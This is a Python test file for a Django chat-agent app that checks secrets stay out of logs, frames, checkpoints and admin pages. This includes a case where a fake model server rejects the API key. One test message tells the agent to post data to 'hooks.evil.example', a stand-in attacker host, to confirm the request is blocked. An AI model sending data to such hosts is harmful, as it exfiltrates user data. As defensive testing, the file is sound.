"""Secrets stay secret: the Django secret key, the model's API key, session ids and
the password appear in no log line (even at DEBUG), error frame, checkpoint or admin
page, on the offline model and on a model server that fails every request."""

import json
import threading
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.contrib.admin.utils import quote

from tests.live import PASSWORD, Session, chat, create_superuser, free_port, receive, receive_until, run_ended, send
from tests.support.frames import BAD_FRAMES

pytestmark = pytest.mark.asyncio

SECRET_KEY = f"django-secret-{uuid.uuid4().hex}"
API_KEY = f"sk-secret-{uuid.uuid4().hex}"
SECRET_ENV = {"DJANGO_SECRET_KEY": SECRET_KEY, "OPENAI_API_KEY": API_KEY, "LOG_LEVEL": "DEBUG"}


def until_waiting(frame: dict) -> bool:
    return frame["type"] == "run" and frame["run"]["status"] in {"waiting", "succeeded", "failed", "cancelled"}


async def approved(ws, content: str) -> list[dict]:
    """A message whose tool call waits for approval, approved; every frame of its run."""
    await send(ws, {"type": "message.send", "content": content})
    frames = await receive_until(ws, until_waiting)
    assert frames[-1]["run"]["status"] == "waiting", frames
    approval = next(f["approval"] for f in frames if f["type"] == "approval")
    await send(ws, {"type": "approval.decide", "approval_id": approval["id"], "decision": "approve"})
    return frames + await receive_until(ws, run_ended)


async def cancelled(ws) -> list[dict]:
    await send(ws, {"type": "message.send", "content": "slow 400"})
    frames = await receive_until(ws, lambda f: f["type"] == "token")
    await send(ws, {"type": "run.cancel"})
    frames += await receive_until(ws, run_ended)
    assert frames[-1]["run"]["status"] == "cancelled", frames[-1]
    return frames


async def bad_frames(ws) -> list[dict]:
    answers = []
    for _, raw, code in BAD_FRAMES:
        await ws.send(raw)
        answers.append(await receive(ws))
        assert answers[-1]["code"] == code, answers[-1]
    return answers


def checkpoint_texts(database) -> list[str]:
    """Everything the checkpointer stored: metadata, checkpoints and pending writes."""
    if database.backend == "sqlite":
        queries = ["SELECT metadata, checkpoint FROM checkpoints", "SELECT value FROM writes"]
    else:
        queries = [
            "SELECT metadata::text, checkpoint::text FROM checkpoints",
            "SELECT blob FROM checkpoint_blobs",
            "SELECT blob FROM checkpoint_writes",
        ]
    # Bytes as Latin-1: one character per byte, so an ASCII secret in a blob is found.
    return [
        bytes(value).decode("latin-1") if isinstance(value, (bytes, memoryview)) else str(value)
        for query in queries
        for row in database.query(query)
        for value in row
    ]


def admin_pages(root: Session, database, conversation_id: str) -> dict[str, str]:
    """The pages a superuser sees about a conversation: its page and history, its
    checkpoint history at each checkpoint, the page of each run, message, approval and
    checkpoint, and the lists."""
    conversation = f"/admin/conversations/conversation/{conversation_id}"
    paths = [f"{conversation}/change/", f"{conversation}/history/", f"{conversation}/checkpoints/"]
    paths += [f"/admin/{model}/" for model in (
        "conversations/conversation", "conversations/run", "conversations/message", "conversations/approval",
        "agent/checkpoint", "agent/toolexecution", "agent/task",
    )]
    for model in ("run", "message", "approval"):
        for (pk,) in database.query(f"SELECT id FROM conversations_{model}"):
            paths.append(f"/admin/conversations/{model}/{quote(str(pk))}/change/")
    for pk, checkpoint_id in database.query("SELECT id, checkpoint_id FROM agent_checkpoint WHERE thread_id = %s", (conversation_id,)):
        paths += [f"/admin/agent/checkpoint/{quote(pk)}/change/", f"{conversation}/checkpoints/?checkpoint={checkpoint_id}"]
    pages = {}
    for path in paths:
        response = root.request("GET", path)
        assert response.status_code == 200, (path, response.status_code)
        pages[path] = response.text
    return pages


def assert_no_secret_in(haystacks: dict[str, str], secrets: dict[str, str]) -> None:
    for where, text in haystacks.items():
        for name, secret in secrets.items():
            assert secret not in text, f"{name} appears in {where}"


def secrets_of(*sessions: Session) -> dict[str, str]:
    found = {"DJANGO_SECRET_KEY": SECRET_KEY, "OPENAI_API_KEY": API_KEY, "the password": PASSWORD}
    for index, session in enumerate(sessions):
        found[f"session id {index}"] = session.http.cookies["sessionid"]
    return found


def everything_stored_and_shown(server, database, root: Session, conversation_id: str, frames: list[dict]) -> dict[str, str]:
    haystacks = {"the server's log": server.log_path.read_text()}
    haystacks.update({f"frame {i}": json.dumps(frame) for i, frame in enumerate(frames)})
    haystacks.update({f"checkpoint row {i}": text for i, text in enumerate(checkpoint_texts(database))})
    haystacks.update(admin_pages(root, database, conversation_id))
    return haystacks


async def test_no_secret_in_logs_frames_checkpoints_or_admin(make_server, database):
    server = make_server(CHAT_MODEL="offline", **SECRET_ENV).start()
    alice = Session(server, "alice")
    conversation = alice.create_conversation("secrets")["id"]
    async with alice.websocket(conversation) as ws:
        frames = [await receive(ws)]
        frames += await chat(ws, "hello")
        frames += await chat(ws, "task water the plants")
        frames += await approved(ws, "email bob@example.com Lunch: see you at noon")
        frames += await approved(ws, 'post http://hooks.evil.example/x {"a": 1}')  # a host not allowed: the tool fails
        frames += await cancelled(ws)
        frames += await bad_frames(ws)
    assert any(f["type"] == "tool" and f["status"] == "failed" for f in frames)
    create_superuser(database, "root")
    root = Session(server, "root")

    haystacks = everything_stored_and_shown(server, database, root, conversation, frames)
    assert sum(where.startswith("checkpoint row") for where in haystacks) > 0
    assert_no_secret_in(haystacks, secrets_of(alice, root))


class FailingModelServer(BaseHTTPRequestHandler):
    """An OpenAI-compatible server that refuses the key, as OpenAI does: it quotes the
    key's first and last characters only."""

    authorizations: list[str] = []

    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        FailingModelServer.authorizations.append(self.headers.get("Authorization"))
        key = self.headers.get("Authorization", "").removeprefix("Bearer ")
        error = {"message": f"Incorrect API key provided: {key[:3]}{'*' * 20}{key[-4:]}.", "type": "invalid_request_error",
                 "code": "invalid_api_key"}
        body = json.dumps({"error": error}).encode()
        self.send_response(401)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def failing_model():
    FailingModelServer.authorizations = []
    server = ThreadingHTTPServer(("127.0.0.1", free_port()), FailingModelServer)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/v1"
    server.shutdown()


async def test_no_secret_when_the_model_server_fails(make_server, database, failing_model):
    server = make_server(CHAT_MODEL="openai:walk-model", OPENAI_BASE_URL=failing_model, **SECRET_ENV).start()
    alice = Session(server, "alice")
    conversation = alice.create_conversation("failing")["id"]
    async with alice.websocket(conversation) as ws:
        frames = [await receive(ws)]
        frames += await chat(ws, "hello")
    failed = frames[-1]["run"]
    assert failed["status"] == "failed" and "authentication failed" in failed["error"], failed
    assert FailingModelServer.authorizations == [f"Bearer {API_KEY}"]  # the key was in use
    create_superuser(database, "root")
    root = Session(server, "root")

    haystacks = everything_stored_and_shown(server, database, root, conversation, frames)
    assert "AuthenticationError" in haystacks["the server's log"]  # the failure was logged
    assert_no_secret_in(haystacks, secrets_of(alice, root))
